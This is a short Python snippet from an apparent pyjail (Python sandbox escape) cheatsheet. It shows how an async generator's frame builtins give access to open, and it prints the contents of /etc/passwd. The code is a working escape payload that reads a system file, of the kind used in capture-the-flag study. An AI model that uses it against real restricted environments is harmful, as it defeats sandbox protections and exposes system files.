# Source: https://github.com/Shirajuki/shirajuki.github.io src/routes/blog/pyjail-cheatsheet.md (ag_frame.f_builtins)
# Family: frame
# What: async generator ag_frame.f_builtins reaches open
async def agen():
    yield 1

fb = agen().ag_frame.f_builtins
print(fb["open"]("/etc/passwd").read())
